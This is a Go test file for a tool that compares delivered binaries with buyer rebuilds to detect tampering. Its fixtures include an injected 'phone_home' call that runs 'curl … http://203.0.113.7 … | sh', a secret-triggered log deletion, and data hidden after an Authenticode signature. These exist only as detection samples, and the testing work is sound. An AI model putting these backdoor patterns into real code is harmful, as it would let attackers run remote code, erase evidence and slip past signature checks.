package rebuild

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"encoding/pem"
	"math/big"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Two builds of the same C source from different directories, at different times (so
// __DATE__, __TIME__, BUILD_TIME, __FILE__, the GNU build ID and the debug information
// differ) are equivalent, and the report says what it set aside.
func TestELFRebuildEquivalent(t *testing.T) {
	d := buildC(t, vendorBuild("gcc", "-g"))
	r := buildC(t, buyerBuild("gcc", "-g"))
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Verdict != Equivalent || len(bd.Differences) != 0 {
		t.Fatalf("verdict %s with %d differences, want equivalent", bd.Verdict, len(bd.Differences))
	}
	for _, want := range []struct{ kind, part string }{
		{"build-id", "GNU build ID differs"},
		{"debug-info", ".debug_"},
		{"build-path", ".rodata"},
		{"build-path", "strings in .rodata/.data differ only"},
	} {
		if !has(bd.Ignored, want.kind, want.part) {
			t.Errorf("nothing ignored as %s %q", want.kind, want.part)
		}
	}
}

// The same source with one injected call (-DINJECT: handle_request calls a new function
// that runs system("curl … | sh")) differs, and the report names the function, the
// import and the string.
func TestELFRebuildInjected(t *testing.T) {
	d := buildC(t, vendorBuild("gcc", "-g", "-DINJECT"))
	r := buildC(t, buyerBuild("gcc", "-g"))
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Verdict != Differs {
		t.Fatalf("verdict %s, want differs", bd.Verdict)
	}
	for _, want := range []struct{ kind, part string }{
		{"function", "function handle_request is "},
		{"function", "new function phone_home"},
		{"import", "new import system@GLIBC"},
		{"string", "new string \"curl -s http://203.0.113.7/c?q=%s | sh\""},
		{"section", "section .text is "},
	} {
		if !has(bd.Differences, want.kind, want.part) {
			t.Errorf("no %s difference %q", want.kind, want.part)
		}
	}
	// The build's own differences stay ignored even when the code differs.
	if !has(bd.Ignored, "build-id", "GNU build ID differs") {
		t.Error("build ID difference not listed as ignored")
	}
}

// Stripped binaries have no function symbols: the injected call still shows through the
// import, the strings of the whole file and the section sizes; the clean pair stays
// equivalent, also when only one side is stripped.
func TestELFRebuildStripped(t *testing.T) {
	clean := func(b cBuild) cBuild { b.strip = true; return b }
	d := buildC(t, clean(vendorBuild("gcc")))
	r := buildC(t, clean(buyerBuild("gcc")))
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Verdict != Equivalent || !has(bd.Ignored, "symbol-table", "both files are stripped") {
		t.Fatalf("stripped clean pair: verdict %s, want equivalent", bd.Verdict)
	}
	bd = compareFiles(t, d, buildC(t, buyerBuild("gcc")))
	dump(t, bd)
	if bd.Verdict != Equivalent || !has(bd.Ignored, "symbol-table", "the delivered file is stripped") {
		t.Fatalf("stripped delivered, unstripped rebuild: verdict %s, want equivalent", bd.Verdict)
	}
	inj := cBuild{cc: "gcc", dir: "build-vendor", epoch: "1764100000", stamp: "2025-11-25T19:46:40Z", flags: []string{"-DINJECT"}, strip: true}
	bd = compareFiles(t, buildC(t, inj), r)
	dump(t, bd)
	if bd.Verdict != Differs {
		t.Fatalf("stripped injected: verdict %s, want differs", bd.Verdict)
	}
	for _, want := range []struct{ kind, part string }{
		{"import", "new import system@GLIBC"},
		{"string", "curl -s http://203.0.113.7"},
		{"section", "section .text is "},
	} {
		if !has(bd.Differences, want.kind, want.part) {
			t.Errorf("no %s difference %q", want.kind, want.part)
		}
	}
	if has(bd.Differences, "function", "") {
		t.Error("function differences reported without symbol tables")
	}
}

// The MinGW build of the same C source, built twice at different times from different
// directories, is equivalent (time stamp, build ID and strings set aside); with the
// injected call it differs, naming the function, the import and the string.
func TestPERebuild(t *testing.T) {
	const cc = "x86_64-w64-mingw32-gcc"
	d := buildC(t, vendorBuild(cc))
	r := buildC(t, buyerBuild(cc))
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Format != "pe" || bd.Verdict != Equivalent {
		t.Fatalf("clean PE pair: %s %s, want pe equivalent", bd.Format, bd.Verdict)
	}
	if !has(bd.Ignored, "timestamp", "COFF TimeDateStamp differs") || !has(bd.Ignored, "build-path", ".rdata") {
		t.Error("the time stamp or the date strings are not listed as ignored")
	}
	bd = compareFiles(t, buildC(t, vendorBuild(cc, "-DINJECT")), r)
	dump(t, bd)
	if bd.Verdict != Differs {
		t.Fatalf("injected PE: %s, want differs", bd.Verdict)
	}
	for _, want := range []struct{ kind, part string }{
		{"import", "new import msvcrt.dll!system"},
		{"function", "new function phone_home"},
		{"function", "function handle_request is "},
		{"string", "curl -s http://203.0.113.7"},
	} {
		if !has(bd.Differences, want.kind, want.part) {
			t.Errorf("no %s difference %q", want.kind, want.part)
		}
	}
	// Stripped (no COFF symbol table): the import and the string still show.
	strip := func(b cBuild) cBuild { b.strip = true; return b }
	bd = compareFiles(t, buildC(t, strip(vendorBuild(cc, "-DINJECT"))), buildC(t, strip(buyerBuild(cc))))
	dump(t, bd)
	if bd.Verdict != Differs || !has(bd.Differences, "import", "msvcrt.dll!system") || !has(bd.Differences, "string", "curl -s") {
		t.Fatalf("stripped injected PE: %s without the import and string", bd.Verdict)
	}
	bd = compareFiles(t, buildC(t, strip(vendorBuild(cc))), buildC(t, strip(buyerBuild(cc))))
	dump(t, bd)
	if bd.Verdict != Equivalent {
		t.Fatalf("stripped clean PE pair: %s, want equivalent", bd.Verdict)
	}
}

// Go builds with -trimpath and without VCS stamping, from two copies of the source in
// different directories with the same toolchain, are byte for byte identical: the Go
// build ID hashes the inputs, and -trimpath keeps the directories out. A changed function
// differs and is named.
func TestGoRebuild(t *testing.T) {
	d := goBuild(t, "go-vendor", "linux", "amd64", nil)
	r := goBuild(t, "go-buyer-copy", "linux", "amd64", nil)
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Verdict != Identical {
		t.Fatalf("Go rebuild: %s, want identical", bd.Verdict)
	}
	changed := goBuild(t, "go-vendor-changed", "linux", "amd64", func(s string) string {
		return strings.Replace(s, `return 201, "201 Created"`, `if os.Getenv("HANDLER_KEY") == "7f3a" {
			os.Remove("/var/log/handler.log")
		}
		return 201, "201 Created"`, 1)
	})
	bd = compareFiles(t, changed, r)
	dump(t, bd)
	if bd.Verdict != Differs {
		t.Fatalf("changed Go program: %s, want differs", bd.Verdict)
	}
	if !has(bd.Differences, "function", "function main.handleRequest is ") {
		t.Error("main.handleRequest's change not named")
	}
	if !has(bd.Ignored, "build-id", "Go build ID note differs") {
		t.Error("the Go build ID is not listed as ignored")
	}
	if !has(bd.Differences, "string", "/var/log/handler.log") {
		t.Error("the new string is not named")
	}
}

// Mach-O from the Go cross-compiler: the rebuild is identical, a changed function shows
// through sections and strings (symbols are not compared for Mach-O).
func TestMachORebuild(t *testing.T) {
	d := goBuild(t, "go-vendor", "darwin", "arm64", nil)
	r := goBuild(t, "go-buyer-copy", "darwin", "arm64", nil)
	bd := compareFiles(t, d, r)
	if bd.Verdict != Identical {
		dump(t, bd)
		t.Fatalf("Go Mach-O rebuild: %s, want identical", bd.Verdict)
	}
	changed := goBuild(t, "go-vendor-changed", "darwin", "arm64", func(s string) string {
		return strings.Replace(s, `return 201, "201 Created"`, `if os.Getenv("HANDLER_KEY") == "7f3a" {
			os.Remove("/var/log/handler.log")
		}
		return 201, "201 Created"`, 1)
	})
	bd = compareFiles(t, changed, r)
	dump(t, bd)
	if bd.Format != "macho" || bd.Verdict != Differs {
		t.Fatalf("changed Go Mach-O: %s %s, want macho differs", bd.Format, bd.Verdict)
	}
	if !has(bd.Differences, "section", "__TEXT,__text") || !has(bd.Differences, "string", "/var/log/handler.log") {
		t.Error("the text section or the new string is not named")
	}
}

// MinGW with --build-id writes a debug directory (CodeView GUID) into a .buildid
// section: its bytes differ between builds and are set aside, not reported.
func TestPEDebugDirectory(t *testing.T) {
	const cc = "x86_64-w64-mingw32-gcc"
	d := buildC(t, vendorBuild(cc, "-Wl,--build-id"))
	r := buildC(t, buyerBuild(cc, "-Wl,--build-id"))
	bd := compareFiles(t, d, r)
	dump(t, bd)
	if bd.Verdict != Equivalent {
		t.Fatalf("verdict %s, want equivalent", bd.Verdict)
	}
	if !has(bd.Ignored, "build-id", "section .buildid differ only inside build IDs, debug directory") {
		t.Error("the debug directory is not listed as ignored")
	}
}

// A delivered PE signed with Authenticode (osslsigncode, a throwaway certificate) is
// equivalent to its unsigned rebuild; data hidden after the signature in the certificate
// table is a difference.
func TestPESigned(t *testing.T) {
	const cc = "x86_64-w64-mingw32-gcc"
	if _, err := exec.LookPath("osslsigncode"); err != nil {
		t.Fatalf("osslsigncode is needed: %v", err)
	}
	dir := t.TempDir()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "Vendor Code Signing"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	kder, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	certFile, keyFile := filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	os.WriteFile(certFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644)
	os.WriteFile(keyFile, pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: kder}), 0o600)
	signed := filepath.Join(dir, "handler-signed.exe")
	cmd := exec.Command("osslsigncode", "sign", "-certs", certFile, "-key", keyFile, "-in", buildC(t, vendorBuild(cc)), "-out", signed)
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("osslsigncode: %v\n%s", err, msg)
	}
	r := buildC(t, buyerBuild(cc))
	bd := compareFiles(t, signed, r)
	dump(t, bd)
	if bd.Verdict != Equivalent || !has(bd.Ignored, "signature", "the delivered file is signed") {
		t.Fatalf("signed delivered PE: %s, want equivalent with the signature ignored", bd.Verdict)
	}
	// Hide 64 bytes after the signature: the table grows, the signature stays valid.
	data, err := os.ReadFile(signed)
	if err != nil {
		t.Fatal(err)
	}
	lfanew := binary.LittleEndian.Uint32(data[0x3c:])
	dirAt := int(lfanew) + 24 + 112 + 4*8 // PE32+ data directory 4, size at +4
	size := binary.LittleEndian.Uint32(data[dirAt+4:])
	binary.LittleEndian.PutUint32(data[dirAt+4:], size+64)
	data = append(data, bytes.Repeat([]byte("PAYLOAD!"), 8)...)
	hidden := filepath.Join(dir, "handler-hidden.exe")
	if err := os.WriteFile(hidden, data, 0o644); err != nil {
		t.Fatal(err)
	}
	bd = compareFiles(t, hidden, r)
	dump(t, bd)
	if bd.Verdict != Differs || !has(bd.Differences, "signature", "after the signature") {
		t.Fatalf("data hidden in the certificate table: %s, want differs", bd.Verdict)
	}
}
